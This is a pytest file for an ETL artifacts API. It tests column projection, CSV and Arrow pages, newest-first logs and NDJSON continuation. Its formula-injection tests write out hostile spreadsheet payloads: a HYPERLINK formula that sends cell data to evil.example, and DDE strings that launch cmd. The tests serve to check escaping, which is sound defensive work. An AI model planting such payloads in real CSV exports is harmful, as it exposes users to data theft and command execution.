"""Data in the shapes consumers use (docs/api.md), over HTTP through the local gateway:
column projection, CSV and Arrow pages, newest-first logs."""

from __future__ import annotations

import base64
import csv
import datetime as dt
import io
import json
import random
from decimal import Decimal

import pandas as pd
import pyarrow as pa
import pyarrow.ipc
import pytest
from etl_artifacts.s3.layout import RunRef
from phases_helpers import (
    errors_table,
    logs_table,
    new_run,
    phase_path,
    put_chunks,
    put_metadata,
    spy_row_groups,
    use_counting_store,
)

CSV = {"Accept": "text/csv"}
ARROW = {"Accept": "application/vnd.apache.arrow.stream"}
NDJSON = {"Accept": "application/x-ndjson"}
UTC = dt.UTC


def typed_table(start: int, count: int) -> pa.Table:
    """Every type the API names, with the awkward values CSV must quote."""
    ids = list(range(start, start + count))
    return pa.table(
        {
            "id": pa.array(ids, pa.int64()),
            "name": [f'row "{i}", line\nbreak é漢😀' if i % 3 == 0 else f"row-{i}" for i in ids],
            "at": pa.array(
                [
                    dt.datetime(2026, 11, 20, 10, 0, i % 60, 123456, tzinfo=UTC) if i % 4 else None
                    for i in ids
                ],
                pa.timestamp("us", tz="UTC"),
            ),
            "day": pa.array([dt.date(2026, 1, 1) + dt.timedelta(days=i) for i in ids], pa.date32()),
            "amount": pa.array([Decimal(i) / 100 for i in ids], pa.decimal128(12, 2)),
            "flag": [i % 2 == 0 for i in ids],
            "score": pa.array([i / 8 if i % 5 else float("nan") for i in ids], pa.float64()),
            "info": pa.array(
                [{"k": i, "tags": ["a", "b"][: i % 3]} for i in ids],
                pa.struct([("k", pa.int32()), ("tags", pa.list_(pa.string()))]),
            ),
        }
    )


@pytest.fixture
def typed_run(api) -> RunRef:
    """60 data rows in 2 chunks (row groups of 10)."""
    run = new_run()
    put_metadata(run)
    put_chunks(run, "data", [typed_table(0, 30), typed_table(30, 30)], row_group_size=10)
    return run


def _cell(value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, str):
        return value
    return json.dumps(value, separators=(",", ":"), ensure_ascii=False)


# -- columns ---------------------------------------------------------------------------------
def test_projected_page_equals_the_full_pages_columns(api, typed_run):
    url = phase_path(typed_run, suffix="/data")
    params = {"page": 1, "limit": 25}
    full = api.get(url, params=params).json()
    projected = api.get(url, params={**params, "columns": "info,id"})
    assert projected.status_code == 200, projected.text
    body = projected.json()
    types = {c["name"]: c for c in full["columns"]}
    assert body["columns"] == [types["info"], types["id"]]
    assert body["rows"] == [{"info": row["info"], "id": row["id"]} for row in full["rows"]]
    assert [list(row) for row in body["rows"]] == [["info", "id"]] * 25  # the order asked
    assert (body["total_rows"], body["has_more"]) == (full["total_rows"], full["has_more"])


def test_projection_reads_only_those_column_chunks(api, monkeypatch):
    """Wide rows (a 2 KB text column): the 2-column page fetches a small part of the full page's bytes."""
    run = new_run()
    put_metadata(run)
    noise = random.Random(18)
    wide = [
        pa.table(
            {
                "id": pa.array(range(s, s + 400), pa.int64()),
                "blob": [noise.randbytes(1000).hex() for _ in range(400)],  # incompressible
                "amount": pa.array([i / 4 for i in range(400)], pa.float64()),
            }
        )
        for s in (0, 400)
    ]
    put_chunks(run, "data", wide, row_group_size=100)
    counting = use_counting_store()
    url = phase_path(run, suffix="/data")
    assert api.get(url, params={"limit": 200, "page": 1}).status_code == 200  # footers now cached
    counting.counter.take()

    full = api.get(url, params={"limit": 200, "page": 1})
    full_bytes = counting.counter.take()
    with spy_row_groups(monkeypatch) as spy:
        projected = api.get(url, params={"limit": 200, "page": 1, "columns": "amount,id"})
    projected_bytes = counting.counter.take()
    assert projected.status_code == 200, projected.text
    assert [call[2] for call in spy.calls] == [["amount", "id"]]
    assert projected.json()["rows"] == [{"amount": r["amount"], "id": r["id"]} for r in full.json()["rows"]]
    assert 0 < projected_bytes * 20 < full_bytes


@pytest.mark.parametrize("columns", ["nope", "id,nope", "ID", " id"])
def test_unknown_column_is_422(api, typed_run, columns):
    response = api.get(phase_path(typed_run, suffix="/data"), params={"columns": columns})
    assert response.status_code == 422, response.text
    assert response.json()["code"] == "unknown_column"


@pytest.mark.parametrize("columns", ["", ",", "id,,name", "id,id", ",".join(f"c{i}" for i in range(101))])
def test_malformed_columns_are_422(api, typed_run, columns):
    response = api.get(phase_path(typed_run, suffix="/data"), params={"columns": columns})
    assert response.status_code == 422, response.text
    assert isinstance(response.json()["detail"], list)  # the validation shape


def test_keyword_still_matches_the_whole_row(api, typed_run):
    url = phase_path(typed_run, suffix="/data")
    # "row-7" is in `name`, which is not projected.
    response = api.get(url, params={"keyword": "ROW-7", "columns": "id"})
    assert response.status_code == 200, response.text
    assert response.headers["X-Search-Mode"] == "scan"
    assert response.json()["rows"] == [{"id": 7}]
    assert [c["name"] for c in response.json()["columns"]] == ["id"]


# -- CSV -------------------------------------------------------------------------------------
@pytest.mark.parametrize("params", [{"limit": 25, "page": 1}, {"limit": 50, "columns": "name,amount,info"}])
def test_csv_page_parses_to_the_json_pages_values(api, typed_run, params):
    url = phase_path(typed_run, suffix="/data")
    page = api.get(url, params=params).json()
    response = api.get(url, params=params, headers=CSV)
    assert response.status_code == 200, response.text
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["X-Total-Rows"] == "60"
    assert response.headers["X-Has-More"] == ("true" if page["has_more"] else "false")
    assert "Accept" in response.headers["Vary"]
    text = response.content.decode("utf-8")
    assert "\r\n" in text  # RFC 4180 line ends
    names = [c["name"] for c in page["columns"]]
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert parsed[0] == names
    assert parsed[1:] == [[_cell(row[name]) for name in names] for row in page["rows"]]

    frame = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    assert list(frame.columns) == names
    assert frame.to_dict("records") == [{name: _cell(row[name]) for name in names} for row in page["rows"]]


def test_csv_and_arrow_of_errors_and_logs_pages(api):
    run = new_run()
    put_metadata(run)
    put_chunks(run, "errors", [errors_table(0, 12)])
    put_chunks(run, "logs", [logs_table([f"line {i}" for i in range(9)])])
    for suffix, total in (("/errors", 12), ("/logs", 9)):
        url = phase_path(run, suffix=suffix)
        page = api.get(url, params={"limit": 5}).json()
        response = api.get(url, params={"limit": 5}, headers=CSV)
        assert response.status_code == 200, response.text
        assert response.headers["X-Total-Rows"] == str(total) and response.headers["X-Has-More"] == "true"
        frame = pd.read_csv(io.StringIO(response.text), dtype=str, keep_default_na=False)
        names = [c["name"] for c in page["columns"]]
        assert frame.to_dict("records") == [{n: _cell(row[n]) for n in names} for row in page["rows"]]

        arrow = api.get(url, params={"limit": 5}, headers=ARROW)
        assert arrow.status_code == 200, arrow.text
        assert arrow.headers["Content-Type"] == "application/vnd.apache.arrow.stream"
        table = pyarrow.ipc.open_stream(arrow.content).read_all()
        assert table.column_names == names and table.num_rows == 5
        assert table.schema.field(names.index("timestamp" if suffix == "/logs" else "occurred_at")).type == (
            pa.timestamp("us", tz="UTC")
        )


def test_csv_of_an_attempt_without_rows_is_the_header_only(api):
    run = new_run()
    put_metadata(run)
    response = api.get(phase_path(run, suffix="/errors"), headers=CSV)
    assert response.status_code == 200
    assert response.text == "" and response.headers["X-Total-Rows"] == "0"


# -- CSV formula injection -------------------------------------------------------------------
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&B3,"Open")',
    "+1+cmd|' /C notepad'!A1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "-2+3",
]
HARMLESS = ["plain", "a=b", " =not first", "", "'quoted"]


@pytest.fixture
def formula_run(api) -> RunRef:
    run = new_run()
    put_metadata(run)
    values = FORMULAS + HARMLESS
    count = len(values)
    data = pa.table(
        {
            "=cmd|' /C calc'!A0": values,  # a column name is a cell too
            "n": pa.array([-1 - i for i in range(count)], pa.int64()),
            "x": pa.array([-0.5] * count, pa.float64()),
            "amount": pa.array([Decimal("-1.50")] * count, pa.decimal128(6, 2)),
            "blob": pa.array([b"\xfb\xef" + bytes([i]) for i in range(count)], pa.binary()),
        }
    )
    put_chunks(run, "data", [data])
    put_chunks(run, "logs", [logs_table(values)])
    return run


def _csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"), newline="")))


def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote(api, formula_run):
    url = phase_path(formula_run, suffix="/data")
    rows = _csv_rows(api.get(url, headers=CSV))
    assert rows[0] == ["'=cmd|' /C calc'!A0", "n", "x", "amount", "blob"]
    assert [row[0] for row in rows[1:]] == ["'" + value for value in FORMULAS] + HARMLESS
    # Numbers, decimals and binary: -1 stays a number; base64 "++8A" starting with + is text.
    assert [row[1] for row in rows[1:3]] == ["-1", "-2"] and {row[2] for row in rows[1:]} == {"-0.5"}
    assert {row[3] for row in rows[1:]} == {"-1.50"}
    count = len(FORMULAS + HARMLESS)
    blobs = [base64.b64encode(b"\xfb\xef" + bytes([i])).decode() for i in range(count)]
    assert all(blob.startswith("+") for blob in blobs)
    assert [row[4] for row in rows[1:]] == ["'" + blob for blob in blobs]


def test_csv_formulas_raw_writes_the_cells_as_stored(api, formula_run):
    url = phase_path(formula_run, suffix="/data")
    rows = _csv_rows(api.get(url, params={"csv_formulas": "raw"}, headers=CSV))
    assert rows[0][0] == "=cmd|' /C calc'!A0"
    assert [row[0] for row in rows[1:]] == FORMULAS + HARMLESS
    # The JSON page and the explicit default are unchanged by the parameter.
    page = api.get(url, params={"csv_formulas": "raw"}).json()
    assert [row["=cmd|' /C calc'!A0"] for row in page["rows"]] == FORMULAS + HARMLESS
    escaped = _csv_rows(api.get(url, params={"csv_formulas": "escape"}, headers=CSV))
    assert escaped == _csv_rows(api.get(url, headers=CSV))


def test_logs_and_errors_csv_are_escaped_too(api, formula_run):
    url = phase_path(formula_run, suffix="/logs")
    rows = _csv_rows(api.get(url, params={"limit": 20}, headers=CSV))
    message = rows[0].index("message")
    assert [row[message] for row in rows[1:]] == ["'" + value for value in FORMULAS] + HARMLESS
    raw = _csv_rows(api.get(url, params={"limit": 20, "csv_formulas": "raw"}, headers=CSV))
    assert [row[message] for row in raw[1:]] == FORMULAS + HARMLESS
    errors = api.get(phase_path(formula_run, suffix="/errors"), params={"csv_formulas": "raw"}, headers=CSV)
    assert errors.status_code == 200


@pytest.mark.parametrize("value", ["RAW", "raw ", "", "none", "escape,raw", "0"])
def test_csv_formulas_takes_escape_or_raw_only(api, formula_run, value):
    for suffix in ("/data", "/errors", "/logs"):
        response = api.get(
            phase_path(formula_run, suffix=suffix), params={"csv_formulas": value}, headers=CSV
        )
        assert response.status_code == 422, (suffix, value)
        assert response.json()["detail"][0]["loc"] == ["query", "csv_formulas"]


# -- Arrow -----------------------------------------------------------------------------------
def test_arrow_page_keeps_the_parquet_types(api, typed_run):
    url = phase_path(typed_run, suffix="/data")
    response = api.get(url, params={"limit": 20, "page": 1}, headers=ARROW)
    assert response.status_code == 200, response.text
    assert response.headers["Content-Type"] == "application/vnd.apache.arrow.stream"
    assert (response.headers["X-Total-Rows"], response.headers["X-Has-More"]) == ("60", "true")
    table = pyarrow.ipc.open_stream(response.content).read_all()
    expected = typed_table(20, 20)
    assert table.schema.types == expected.schema.types
    assert table.schema.field("at").type == pa.timestamp("us", tz="UTC")
    assert table.schema.field("day").type == pa.date32()
    assert table.schema.field("amount").type == pa.decimal128(12, 2)
    assert pa.types.is_struct(table.schema.field("info").type)
    same = [name for name in expected.column_names if name != "score"]  # NaN != NaN
    assert table.select(same).equals(expected.select(same))


def test_arrow_projection_and_gzip(api, typed_run):
    url = phase_path(typed_run, suffix="/data")
    response = api.get(
        url, params={"limit": 60, "columns": "day,id"}, headers={**ARROW, "Accept-Encoding": "gzip"}
    )
    assert response.status_code == 200, response.text
    assert response.headers.get("Content-Encoding") == "gzip"  # requests decodes it
    table = pyarrow.ipc.open_stream(response.content).read_all()
    assert table.column_names == ["day", "id"] and table.column("id").to_pylist() == list(range(60))


def test_json_stays_the_default(api, typed_run):
    url = phase_path(typed_run, suffix="/data")
    for accept in (None, "*/*", "application/json", "text/html", "text/csv;q=0", "text/csv;q=7"):
        response = api.get(url, headers={"Accept": accept} if accept else None)
        assert response.status_code == 200
        assert response.headers["Content-Type"].startswith("application/json"), accept
    preferred = api.get(url, headers={"Accept": "application/json;q=0.5, text/csv;q=0.9"})
    assert preferred.headers["Content-Type"].startswith("text/csv")


# -- order=desc ------------------------------------------------------------------------------
@pytest.fixture
def logs_run(api) -> RunRef:
    """250 lines in 3 chunks (100, 100, 50; row groups of 30)."""
    run = new_run()
    put_metadata(run)
    tables = [
        logs_table([f"line {i}" for i in range(s, s + n)], start=s)
        for s, n in ((0, 100), (100, 100), (200, 50))
    ]
    put_chunks(run, "logs", tables, row_group_size=30)
    return run


def _messages(rows: list[dict]) -> list[str]:
    return [row["message"] for row in rows]


@pytest.mark.parametrize(("page", "limit"), [(0, 20), (1, 40), (5, 40), (7, 40), (0, 250)])
def test_desc_pages_give_the_last_rows_first(api, logs_run, page, limit):
    url = phase_path(logs_run, suffix="/logs")
    body = api.get(url, params={"order": "desc", "page": page, "limit": limit}).json()
    everything = [f"line {i}" for i in range(249, -1, -1)]
    assert _messages(body["rows"]) == everything[page * limit : page * limit + limit]
    assert body["total_rows"] == 250 and body["has_more"] == ((page + 1) * limit < 250)


def test_desc_page_reads_the_row_groups_at_the_end(api, logs_run, monkeypatch):
    url = phase_path(logs_run, suffix="/logs")
    assert api.get(url, params={"order": "desc", "limit": 20}).status_code == 200  # footers cached
    with spy_row_groups(monkeypatch) as spy:
        body = api.get(url, params={"order": "desc", "limit": 20}).json()
    assert _messages(body["rows"]) == [f"line {i}" for i in range(249, 229, -1)]
    assert spy.groups() == [(2, [1])]  # logs_002 (30 + 20 rows), its last group: nothing else


def test_desc_ndjson_reads_from_the_end(api, logs_run, monkeypatch):
    from etl_artifacts.config import get_settings

    monkeypatch.setenv("NDJSON_MAX_BYTES", "1500")
    get_settings.cache_clear()
    url = phase_path(logs_run, suffix="/logs")
    with spy_row_groups(monkeypatch) as spy:
        response = api.get(url, params={"order": "desc"}, headers=NDJSON)
    assert response.headers["X-Continuation-Token"]
    rows = [json.loads(x) for x in response.text.splitlines()]
    assert _messages(rows) == [f"line {i}" for i in range(249, 249 - len(rows), -1)]
    # The last row group of logs_002 (rows 30..49) and the one before it, prefetched alongside (so
    # which read is recorded first depends on the threads, not on the order asked).
    assert sorted(spy.groups()) == [(2, [0]), (2, [1])]


def test_desc_with_filters(api, logs_run):
    url = phase_path(logs_run, suffix="/logs")
    asc = api.get(url, params={"level": "ERROR", "keyword": "LINE 1", "limit": 1000}).json()
    desc = api.get(url, params={"level": "ERROR", "keyword": "LINE 1", "limit": 1000, "order": "desc"}).json()
    assert desc["rows"] == asc["rows"][::-1] and desc["total_rows"] == asc["total_rows"] > 0
    second = api.get(url, params={"level": "ERROR", "limit": 3, "page": 1, "order": "desc"}).json()
    errors = [m for i, m in enumerate(f"line {j}" for j in range(250)) if i % 5 == 3][::-1]
    assert _messages(second["rows"]) == errors[3:6]


def test_desc_ndjson(api, logs_run, monkeypatch):
    from etl_artifacts.config import get_settings

    url = phase_path(logs_run, suffix="/logs")
    one = api.get(url, params={"order": "desc"}, headers=NDJSON)
    assert _messages([json.loads(x) for x in one.text.splitlines()]) == [
        f"line {i}" for i in range(249, -1, -1)
    ]
    assert "X-Continuation-Token" not in one.headers

    monkeypatch.setenv("NDJSON_MAX_BYTES", "2000")
    get_settings.cache_clear()
    rows: list[dict] = []
    token = None
    for _ in range(100):
        params = {"order": "desc", "level": "INFO", **({"continuation_token": token} if token else {})}
        response = api.get(url, params=params, headers=NDJSON)
        assert response.status_code == 200, response.text
        rows.extend(json.loads(x) for x in response.text.splitlines())
        token = response.headers.get("X-Continuation-Token")
        if token is None:
            break
    assert _messages(rows) == [f"line {i}" for i in range(249, -1, -1) if i % 5 == 1]


def test_order_is_validated_and_bound_to_the_token(api, logs_run, monkeypatch):
    from etl_artifacts.config import get_settings

    url = phase_path(logs_run, suffix="/logs")
    assert api.get(url, params={"order": "DESC"}).status_code == 422
    monkeypatch.setenv("NDJSON_MAX_BYTES", "500")
    get_settings.cache_clear()
    token = api.get(url, headers=NDJSON).headers["X-Continuation-Token"]
    refused = api.get(url, params={"order": "desc", "continuation_token": token}, headers=NDJSON)
    assert refused.status_code == 422 and refused.json()["code"] == "invalid_continuation_token"
